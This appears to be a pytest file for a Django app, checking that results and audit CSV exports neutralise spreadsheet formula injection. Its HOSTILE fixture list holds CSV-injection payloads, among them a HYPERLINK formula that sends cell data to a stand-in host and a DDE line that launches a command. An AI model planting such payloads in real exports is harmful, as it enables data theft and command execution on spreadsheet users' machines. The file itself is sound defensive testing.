"""Every text cell of every CSV export is neutralised against spreadsheet formulas."""
from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Permission
from django.test import Client
from django.urls import reverse

from campaign import audit
from campaign.csv_export import safe_cell
from campaign.models import CampaignState
from tests.results import builders as b

pytestmark = pytest.mark.django_db

# What a team controls (its name, its run's name) or a client sends, and how a spreadsheet would read it.
HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_cell_starting_like_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_plain_text_and_numbers_are_left_alone():
    # Numbers are not text cells: a negative number stays a number (none of ours are negative, but the rule is general).
    assert [safe_cell(v) for v in ("Alpha", "a=b", "", None, 3, -3, 0.25, True)] == \
        ["Alpha", "a=b", "", "", 3, -3, "0.25", 1]


def _rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def _organiser():
    org = b.user("org", is_staff=True)
    org.user_permissions.add(*Permission.objects.filter(content_type__app_label__in=["campaign", "evaluation"]))
    client = Client()
    client.force_login(org)
    return org, client


def test_results_export_neutralises_team_and_run_names():
    org, client = _organiser()
    c = b.campaign(CampaignState.CLOSED, organiser=org)
    t = b.team(c, HOSTILE[0], code="A")
    b.scored_run(c, t, "@evil-run", index=1)
    rows = _rows(client.get(reverse("console:export", args=[c.slug])))
    header, body = rows[0], rows[1:]
    assert body
    for row in body:
        cells = dict(zip(header, row))
        assert cells["team"] == "'" + HOSTILE[0]
        assert cells["run_name"] == "'@evil-run"
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)


def test_audit_export_neutralises_every_text_cell():
    org, client = _organiser()
    c = b.campaign(CampaignState.OPEN, organiser=org)
    for text in HOSTILE:
        audit.record("run.upload", actor=org, campaign=c, target=text, details={"filename": text})
    rows = _rows(client.get(reverse("governance:audit_csv", args=[c.slug]), {"action": "run."}))
    targets = [r[audit.CSV_COLUMNS.index("target")] for r in rows[1:]]
    assert sorted(targets) == sorted("'" + t for t in HOSTILE)
    for row in rows[1:]:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)
